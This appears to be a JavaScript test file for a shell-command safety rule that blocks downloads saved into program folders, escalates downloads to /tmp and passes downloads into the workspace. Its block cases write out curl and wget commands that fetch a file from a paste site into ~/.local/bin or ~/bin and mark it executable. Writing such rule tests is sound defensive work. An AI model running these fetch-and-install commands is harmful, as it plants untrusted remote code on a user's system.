import { describeShellRules } from '../rule-table.test-support.js';

describeShellRules('exec.downloaded_build_file: a download saved into a folder of programs', {
  mustBlock: [
    [
      'curl -s https://paste.example-bin.com/raw/a8f3 -o ~/.local/bin/helper && chmod +x ~/.local/bin/helper',
      'exec.downloaded_build_file',
    ],
    [
      'curl -s https://paste.example-bin.com/raw/a8f3 -o ~/bin/helper',
      'exec.downloaded_build_file',
    ],
    [
      'wget -qO /home/alice/.local/bin/jq https://example.net/jq-linux-amd64',
      'exec.downloaded_build_file',
    ],
  ],
  mustEscalate: [
    ['curl -s https://example.net/a.tgz -o /tmp/a.tgz', 'files.write_outside_workspace'],
  ],
  mustPass: [
    'curl -fsSL https://api.github.com/repos/nodejs/node/releases/latest -o release.json',
    'curl -s https://example.net/data.bin -o data/bin.dat',
  ],
});
